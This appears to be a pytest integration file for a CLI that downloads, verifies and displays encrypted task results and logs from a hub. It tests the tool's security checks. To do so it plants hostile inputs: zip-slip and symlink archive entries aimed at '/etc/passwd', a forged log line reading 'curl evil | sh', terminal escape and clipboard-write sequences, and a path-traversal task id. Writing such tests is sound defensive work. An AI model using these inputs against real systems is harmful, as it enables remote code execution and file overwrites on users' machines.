"""``confide task show --download``, ``result verify`` and ``task debug --logs`` as a user
types them, against a small hub and storage that serve one task's result (made with real
crypto by tests.unit.test_results_support) over loopback HTTP: the requester downloads,
verifies and reads; tampering is caught and named; others are refused."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import stat
import threading
import time
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import JSONResponse, Response
from starlette.routing import Route

from confide.crypto.info_proof import request_audience
from confide.crypto.sealing import EnclaveKeys
from confide.crypto.signing import SigningKey
from confide.crypto.tokens import public_jwk
from confide.crypto.wallet import load_wallet
from confide.results.sealed import load_private_key, public_of, seal_logs
from confide.web.info import info_route
from confide.web.signed import authenticate
from tests.conftest import assert_refusal, quick_wallet, run_cli
from tests.integration.sms_server import free_port
from tests.unit.test_results_support import World, make_world, resign

PASSWORD = "result-tests-password"


@dataclass
class Services:
    """A fake hub and storage: one task view, its blobs, grants for the requester only."""

    hub_url: str = ""
    storage_url: str = ""
    views: dict[str, dict[str, Any]] = field(default_factory=dict)
    blobs: dict[str, bytes] = field(default_factory=dict)
    grants_asked: list[str] = field(default_factory=list)

    def put_blob(self, data: bytes) -> str:
        digest = hashlib.sha256(data).hexdigest()
        self.blobs[digest] = data
        return digest


def _service(kind: str, routes: list[Route], extra: dict[str, Any]) -> tuple[Starlette, str]:
    key = SigningKey.generate()
    audience = request_audience("fake-deployment", key.public_bytes(), kind)

    def document() -> dict[str, Any]:
        return {
            "deployment_id": "fake-deployment",
            "audience": audience,
            "jwks": {"keys": [public_jwk(key.public_bytes())]},
            **extra,
        }

    return Starlette(routes=[info_route(document, key.sign), *routes]), audience


def _serve(app: Starlette) -> tuple[str, uvicorn.Server, threading.Thread]:
    port = free_port()
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="error"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 20
    while not server.started:
        assert time.monotonic() < deadline and thread.is_alive(), "a fake service did not start"
        time.sleep(0.01)
    return f"http://127.0.0.1:{port}", server, thread


@pytest.fixture
def services() -> Iterator[Services]:
    state = Services()
    hub_audience = storage_audience = ""

    async def task_view(request: Request) -> Response:
        view = state.views.get(request.path_params["task"])
        if view is None:
            return JSONResponse({"title": "Not Found", "status": 404}, status_code=404)
        return JSONResponse(view)

    async def grants(request: Request) -> Response:
        body = await request.body()
        who = authenticate(request, body, hub_audience, int(time.time())).address
        view = state.views[request.path_params["task"]]
        if who != view["requester"]:
            detail = f"only the task's requester {view['requester']} gets its grants"
            return JSONResponse({"title": "Forbidden", "status": 403, "detail": detail}, 403)
        state.grants_asked.append(who)
        result = view.get("result") or {}
        return JSONResponse(
            {
                kind: None if result.get(name) is None else f"grant:{result[name]}:{who}"
                for kind, name in (("result", "blob"), ("logs", "logs_blob"))
            }
        )

    async def blob(request: Request) -> Response:
        who = authenticate(request, b"", storage_audience, int(time.time())).address
        digest = request.path_params["digest"]
        if request.headers.get("x-confide-grant") != f"grant:{digest}:{who}":
            return JSONResponse({"title": "Forbidden", "status": 403}, status_code=403)
        return Response(state.blobs[digest], media_type="application/octet-stream")

    storage, storage_audience = _service(
        "storage", [Route("/v1/blobs/{digest}", blob, methods=["GET"])], {}
    )
    state.storage_url, storage_server, storage_thread = _serve(storage)
    hub, hub_audience = _service(
        "hub",
        [
            Route("/v1/tasks/{task}", task_view, methods=["GET"]),
            Route("/v1/tasks/{task}/grants", grants, methods=["POST"]),
        ],
        {"storage": state.storage_url},
    )
    state.hub_url, hub_server, hub_thread = _serve(hub)
    try:
        yield state
    finally:
        for server, thread in ((hub_server, hub_thread), (storage_server, storage_thread)):
            server.should_exit = True
            thread.join(20)


@dataclass
class User:
    home: Path
    address: str
    services: Services

    def env(self) -> dict[str, str]:
        return {
            **os.environ,
            "CONFIDE_HOME": str(self.home),
            "CONFIDE_HUB": self.services.hub_url,
            "CONFIDE_WALLET_PASSWORD": PASSWORD,
            "CONFIDE_SMS": "",
            "CONFIDE_STORAGE": "",
        }

    def cli(self, *args: str | Path) -> Any:
        return run_cli(*args, env=self.env(), cwd=self.home)

    def ok(self, *args: str | Path) -> dict[str, Any]:
        done = self.cli(*args, "--json")
        assert done.returncode == 0, (args, done.stdout, done.stderr)
        document = json.loads(done.stdout)
        assert isinstance(document, dict)
        return document


def publish(
    services: Services,
    world: World,
    *,
    logs: bytes | None = None,
    status: str = "COMPLETED",
    cause: str | None = None,
) -> str:
    """Put the world's task on the fake hub (as the worker would report it); its logs
    sealed to the requester, their digest signed in the statement (as the runtime does)."""
    blob = services.put_blob(world.stored.read_bytes())
    logs_blob = None
    if logs is not None:
        public = public_of(load_private_key(world.key_path))
        logs_blob = services.put_blob(seal_logs(logs, public, world.task))
        world = resign(world, dataclasses.replace(world.statement, logs_digest=logs_blob))
    document = world.document(blob=blob, logs_blob=logs_blob)
    services.views[world.task] = {
        "task": world.task,
        "status": status,
        "cause": cause,
        "requester": world.order.requester,
        "app": world.order.app,
        "attempts": 1,
        "max_attempts": 3,
        "result_digest": blob,
        "created_at": document["created_at"],
        "times": document["times"],
        "order": document["order"],
        "signature": document["signature"],
        "result": document["result"],
        "lease": None,
    }
    return world.task


def requester(tmp_path: Path, services: Services, name: str = "rita") -> tuple[User, World]:
    home = tmp_path / name
    address = quick_wallet(home, PASSWORD)
    world = make_world(home, requester=load_wallet(home / "wallet.json", PASSWORD))
    return User(home, address, services), world


def test_download_verify_and_debug(tmp_path: Path, services: Services) -> None:
    user, world = requester(tmp_path, services)
    task = publish(services, world, logs=b"computing f(3)\nIEXEC_REQUESTER_SECRET_1=***\n")
    out = tmp_path / "out"
    shown = user.ok("task", "show", task, "--download", out)
    assert shown["status"] == "COMPLETED" and shown["verified"] is True
    assert shown["times"]["COMPLETED"] == world.now
    assert shown["result_digest"] == world.statement.ciphertext_digest
    assert str(out / f"{task}.zip") in shown["downloaded"]
    assert str(out / f"{task}.json") in shown["downloaded"]
    assert (out / "result.txt").read_bytes() == b"f(3) = 56\n"
    assert (out / "deep/er/data.bin").exists()
    kept = json.loads((out / f"{task}.json").read_text())
    assert "result.txt" in kept["files"]
    assert services.grants_asked == [user.address]

    verdict = user.ok("result", "verify", task, "--dir", out, "--allow-sim")
    assert verdict["ok"] is True and verdict["simulation"] is True
    assert {c["status"] for c in verdict["checks"]} == {"ok"}
    text = user.cli("result", "verify", task, "--dir", out, "--allow-sim")
    assert text.returncode == 0 and "result verified (simulation)" in text.stdout
    assert "no hardware protection" in text.stderr

    refused = user.cli("result", "verify", task, "--dir", out)
    assert_refusal(refused, "token-status", "no hardware protection", "--allow-sim")

    (out / "result.txt").write_bytes(b"f(3) = 57\n")
    changed = user.cli("result", "verify", task, "--dir", out, "--allow-sim", "--json")
    assert changed.returncode == 1
    assert json.loads(changed.stdout)["failed"] == "extracted-files"
    assert "result.txt differs" in changed.stderr

    debugged = user.ok("task", "debug", task, "--logs")
    assert debugged["status"] == "COMPLETED" and "computing f(3)" in debugged["logs"]
    plain = user.cli("task", "debug", task, "--logs")
    assert plain.returncode == 0 and "computing f(3)" in plain.stdout


def test_a_tampered_result_is_kept_encrypted(tmp_path: Path, services: Services) -> None:
    user, world = requester(tmp_path, services)
    data = bytearray(world.stored.read_bytes())
    data[len(data) // 2] ^= 1
    world.stored.write_bytes(bytes(data))
    task = publish(services, world)
    out = tmp_path / "out"
    done = user.cli("task", "show", task, "--download", out, "--json")
    assert_refusal(done, "failed verification", "ciphertext-digest", "kept encrypted")
    document = json.loads(done.stdout)  # one JSON document, the verdict inside
    assert document["verified"] is False and document["verdict"]["failed"] == "ciphertext-digest"
    assert sorted(p.name for p in out.iterdir()) == [f"{task}.json", f"{task}.zip"]
    offline = user.cli("result", "verify", task, "--dir", out, "--allow-sim")
    assert_refusal(offline, "ciphertext-digest")


def test_another_enclave_or_without_the_key(tmp_path: Path, services: Services) -> None:
    user, world = requester(tmp_path, services)
    forged = resign(world, world.statement, EnclaveKeys.generate())
    task = publish(services, forged)
    assert_refusal(
        user.cli("task", "show", task, "--download", tmp_path / "a"), "statement-signature"
    )
    publish(services, world)
    (user.home / "result-key").rename(user.home / "elsewhere")
    shown = user.cli("task", "show", task, "--download", tmp_path / "b", "--json")
    assert shown.returncode == 0, shown.stderr
    assert "kept encrypted" in shown.stderr
    assert len(json.loads(shown.stdout)["downloaded"]) == 2
    assert not (tmp_path / "b" / "result.txt").exists()


def test_others_are_refused_and_bad_task_ids(tmp_path: Path, services: Services) -> None:
    _owner, world = requester(tmp_path, services)
    task = publish(services, world)
    other, _ = requester(tmp_path, services, "otto")
    assert_refusal(other.cli("task", "debug", task, "--logs"), "only its requester")
    refused = other.cli("task", "show", task, "--download", tmp_path / "x")
    assert_refusal(refused, "only the task's requester")
    assert_refusal(
        other.cli("task", "show", "0x12/../../x", "--download", tmp_path), "not a task id"
    )
    assert_refusal(
        other.cli("result", "verify", task, "--dir", tmp_path / "none"), "download the result first"
    )
    assert_refusal(other.cli("task", "debug", task, "--logs"), "only its requester")
    view = other.ok("task", "show", task)
    assert view["status"] == "COMPLETED" and view["downloaded"] == []
    assert view["order"]["requester"] == world.order.requester
    no_logs = _owner.cli("task", "debug", task, "--logs")
    assert_refusal(no_logs, "has no logs")


@pytest.mark.parametrize("entry", ["../escape.txt", "/abs.txt", "link"])
def test_a_hostile_archive_signed_by_the_enclave_is_not_extracted(
    tmp_path: Path, services: Services, entry: str
) -> None:
    """Even a result its enclave signed is extracted safely: a plain (unencrypted) zip with
    a '..' path, an absolute path or a symlink is refused, and nothing lands."""
    home = tmp_path / "rita"
    quick_wallet(home, PASSWORD)
    world = make_world(home, encrypt=False, requester=load_wallet(home / "wallet.json", PASSWORD))
    user = User(home, world.order.requester, services)
    with zipfile.ZipFile(world.stored, "w") as archive:
        info = zipfile.ZipInfo(entry)
        if entry == "link":
            info.create_system = 3
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, b"/etc/passwd")
        archive.writestr(".confide/salt", os.urandom(32).hex())
    digest = hashlib.sha256(world.stored.read_bytes()).hexdigest()
    signed = resign(world, dataclasses.replace(world.statement, ciphertext_digest=digest))
    task = publish(services, signed)
    out = tmp_path / "out"
    done = user.cli("task", "show", task, "--download", out)
    assert_refusal(done, "result-digest")
    assert sorted(p.name for p in out.iterdir()) == [f"{task}.json", f"{task}.zip"]
    assert not (tmp_path / "escape.txt").exists()


def test_logs_open_only_as_the_enclave_signed_them(tmp_path: Path, services: Services) -> None:
    """Anyone can seal a text to the requester's public key: logs the statement does not
    sign (other bytes, another blob) are never opened, nor shown."""
    user, world = requester(tmp_path, services)
    task = publish(services, world, logs=b"the real logs\n")
    signed = services.views[task]["result"]["logs_blob"]
    public = public_of(load_private_key(world.key_path))
    forged = services.put_blob(seal_logs(b"PHISHING: run curl evil | sh\n", public, task))
    services.views[task]["result"]["logs_blob"] = forged
    refused = user.cli("task", "debug", task, "--logs")
    assert_refusal(refused, "hub names logs blob", "not opened")
    assert "PHISHING" not in refused.stdout
    services.views[task]["result"]["logs_blob"] = signed
    services.blobs[signed] = services.blobs[forged]  # the storage serves other bytes
    swapped = user.cli("task", "debug", task, "--logs")
    assert swapped.returncode == 1 and "PHISHING" not in swapped.stdout + swapped.stderr


def test_control_characters_never_reach_the_terminal(tmp_path: Path, services: Services) -> None:
    user, world = requester(tmp_path, services)
    logs = "\x1b]52;c;ZXZpbA==\x07copied \x1b[31mred\u202e\n\tindented\n".encode()
    task = publish(services, world, logs=logs)
    services.views[task]["result"]["error"] = "boom\x1b[2J\x9b0m"
    plain = user.cli("task", "debug", task, "--logs")
    assert plain.returncode == 0, plain.stderr
    for raw in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert raw not in plain.stdout
    assert "\\x1b]52;c;ZXZpbA==\\x07copied" in plain.stdout
    assert "\n\tindented\n" in plain.stdout and "boom\\x1b[2J\\x9b0m" in plain.stdout
    as_json = user.ok("task", "debug", task, "--logs")  # JSON: escaped by JSON itself
    assert as_json["logs"].startswith("\x1b]52") and as_json["error"] == "boom\x1b[2J\x9b0m"


def test_a_failed_tasks_error_result(tmp_path: Path, services: Services) -> None:
    """The statement signs the outcome: a failed task's (error.txt) result downloads and
    verifies as a failure, and never passes for a COMPLETED task's result."""
    user, world = requester(tmp_path, services)
    failed = resign(
        world, dataclasses.replace(world.statement, outcome="failed:APP_COMPUTE_FAILED")
    )
    task = publish(services, failed, status="FAILED", cause="APP_COMPUTE_FAILED")
    shown = user.cli("task", "show", task, "--download", tmp_path / "f")
    assert shown.returncode == 0, shown.stderr
    assert "the task failed (APP_COMPUTE_FAILED, signed by the enclave)" in shown.stdout
    as_json = user.ok("task", "show", task, "--download", tmp_path / "g")
    assert as_json["verified"] is True and as_json["outcome"] == "failed:APP_COMPUTE_FAILED"
    verified = user.cli("result", "verify", task, "--dir", tmp_path / "f", "--allow-sim")
    assert verified.returncode == 0 and "the task failed (APP_COMPUTE_FAILED" in verified.stdout
    publish(services, failed)  # the same signed error result, as a COMPLETED task's
    refused = user.cli("task", "show", task, "--download", tmp_path / "h")
    assert_refusal(refused, "failed verification", "outcome", "failed task's error.txt")
